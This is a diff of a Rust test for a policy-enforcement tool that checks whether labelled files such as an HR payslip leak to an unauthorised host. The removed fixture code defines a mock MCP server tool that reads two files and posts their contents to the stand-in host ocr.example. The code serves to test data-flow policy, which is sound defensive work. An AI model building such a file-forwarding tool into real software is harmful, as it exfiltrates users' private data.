@@ -24,35 +24,9 @@ fn a_witness_reproduces_offline_and_edits_are_rejected() {
     let tmp = tempfile::tempdir().unwrap();
     let here = tmp.path().join("host");
     let data = here.join("data");
+    common::mixer_release(&here.join("rel"), "mixer", true);
+    let (invoice, payslip, _) = common::mixer_world(&here, 64, "");
     let items = here.join("items");
-    std::fs::create_dir_all(items.join("finance")).unwrap();
-    std::fs::create_dir_all(items.join("hr")).unwrap();
-    let invoice = items.join("finance/invoice.txt");
-    let payslip = items.join("hr/payslip.txt");
-    std::fs::write(&invoice, "invoice 12").unwrap();
-    std::fs::write(&payslip, "salary 99").unwrap();
-    let rel = here.join("rel");
-    std::fs::create_dir_all(&rel).unwrap();
-    std::fs::write(
-        rel.join("germline.toml"),
-        "[release]\nname = \"mixer\"\nversion = \"1.0.0\"\nruntime = \"python\"\nfactory = \"server:create_server\"\ndeterministic = true\n[tools.scan]\nhosts = [\"ocr.example\"]\n",
-    )
-    .unwrap();
-    std::fs::write(
-        rel.join("server.py"),
-        "import urllib.request\nfrom mcp.server.fastmcp import FastMCP\ndef create_server():\n    m = FastMCP('mixer')\n    @m.tool()\n    def scan(document: str, extra: str) -> str:\n        body = (open(document).read() + open(extra).read()).encode()\n        try:\n            urllib.request.urlopen(urllib.request.Request('http://ocr.example/scan', data=body), timeout=10).read()\n        except Exception:\n            pass\n        return 'scanned'\n    return m\n",
-    )
-    .unwrap();
-    let policy = here.join("policy.toml");
-    std::fs::write(
-        &policy,
-        format!(
-            "tags = [\"finance\", \"hr\"]\n[[items]]\npath = \"{i}/finance/**\"\nlabel = [\"finance\"]\n[[items]]\npath = \"{i}/hr/**\"\nlabel = [\"hr\"]\n[destinations.\"ocr.example\"]\nclearance = [\"finance\"]\n[consumers.agent]\nclearance = [\"finance\", \"hr\"]\n[hosts]\n\"ocr.example\" = \"127.0.0.1:{p}\"\n",
-            i = items.display(),
-            p = common::ok_sink(64)
-        ),
-    )
-    .unwrap();
     let args = format!("{{\"document\": \"{}\", \"extra\": \"{}\"}}", invoice.display(), payslip.display());
     let (ok, out) = germline(
         &[
